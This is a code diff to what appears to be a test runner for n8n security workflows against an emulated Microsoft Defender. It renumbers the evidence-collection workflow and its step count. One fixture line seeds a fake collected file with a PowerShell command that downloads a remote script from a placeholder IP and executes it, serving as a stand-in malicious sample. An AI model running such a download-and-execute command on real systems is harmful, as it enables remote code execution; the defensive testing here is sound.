@@ -33,7 +33,7 @@ if (line !== 1 && line !== 2) {
 	process.exit(2);
 }
 
-const STEPS = queue ? 7 : 10;
+const STEPS = queue ? 7 : 11;
 const started = Date.now();
 let step = 0;
 function stage(text: string) {
@@ -140,16 +140,16 @@ async function main() {
 			`1 alert triage      ${alerts.length} alerts, ${rows} hunting rows, ${isolations.length} isolations (${isolatedNow} machines isolated in the emulator), ${comments.length} incident comments`,
 		);
 
-		stage('Workflow 5: a high-severity alert → Live Response collects a file from its device (binary data) → SHA-256 → comment on the incident');
+		stage('Workflow 6: a high-severity alert → Live Response collects a file from its device (binary data) → SHA-256 → comment on the incident');
 		store.setLiveResponseFile('C:\\Windows\\Temp\\payload.ps1', 0, 'Invoke-WebRequest http://203.0.113.7/stage2.ps1 | Invoke-Expression\n');
 		const ev = await n8n.executeWorkflow(folder, 'defenderExampleCollectEvidence', 300_000);
 		if (!ev.ok || !ev.run) {
-			throw new Error(`workflow 5 failed: ${JSON.stringify(ev.run?.data.resultData.error ?? ev.stderr.slice(-2000))}`);
+			throw new Error(`workflow 6 failed: ${JSON.stringify(ev.run?.data.resultData.error ?? ev.stderr.slice(-2000))}`);
 		}
 		const collected = n8n.nodeOutput(ev.run, 'Fingerprint the stored file');
 		for (const f of collected) info(`  collected ${f.fileName} (${f.fileSize}, ${f.mimeType}) from ${f.computerDnsName}, SHA-256 ${f.sha256}`);
 		const evComments = n8n.nodeOutput(ev.run, 'Comment on the incident');
-		summary.push(`5 collect evidence  ${collected.length} file(s) collected into binary data, ${evComments.length} incident comment(s)`);
+		summary.push(`6 collect evidence  ${collected.length} file(s) collected into binary data, ${evComments.length} incident comment(s)`);
 
 		stage('Publishing workflows 2 and 3 and starting n8n');
 		const incident = store.addIncident({
